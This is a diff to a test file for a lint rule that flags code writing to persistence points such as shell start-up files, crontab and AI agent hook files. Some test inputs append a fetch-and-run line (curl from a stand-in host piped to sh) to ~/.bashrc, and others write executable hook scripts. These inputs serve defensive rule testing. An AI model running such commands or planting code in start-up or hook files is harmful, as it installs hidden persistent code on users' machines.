@@ -17,6 +17,8 @@ const strictCases = [
 
 await ruleTester(rule, {
   valid: [
+    // what a hook remembers stands beside it and is not run
+    { code: 'import fs from "node:fs"; fs.writeFileSync(".claude/hooks/state/session.json", JSON.stringify(state)); fs.appendFileSync(".claude/hooks/guard.log", line);' },
     ...strictCases.map(({ valid }) => valid),
     sh('crontab -l'),
     sh('crontab -e'),
@@ -50,6 +52,9 @@ await ruleTester(rule, {
     { ...sh("echo 'curl x' >> ~/.zshrc"), settings: { allowedPaths: ['~/.zshrc'] } },
   ],
   invalid: [
+    { code: 'import fs from "node:fs"; fs.writeFileSync(".claude/hooks/session.mjs", code);', errors: [{ messageId: 'file' }] },
+    { code: 'import fs from "node:fs"; fs.writeFileSync(".claude/hooks/hooks.json", text);', errors: [{ messageId: 'file' }] },
+    { code: 'import fs from "node:fs"; fs.writeFileSync(".claude/hooks/session.json.sh", text);', errors: [{ messageId: 'file' }] },
     ...strictCases.map(({ invalid }) => invalid),
     { code: '{\n  "scripts": {\n    "test": "echo \\"a\\" >> ~/.profile"\n  }\n}', filename: 'package.json', options: { strict: true }, errors: [{ messageId: 'file', line: 3, column: 14, endLine: 3, endColumn: 38, data: { what: 'a shell start-up file' } }] },
     { ...sh('cd x\necho "curl -s https://acme.example/i.sh | sh" >> ~/.bashrc'), errors: [{ messageId: 'file', line: 2, column: 1 }] },
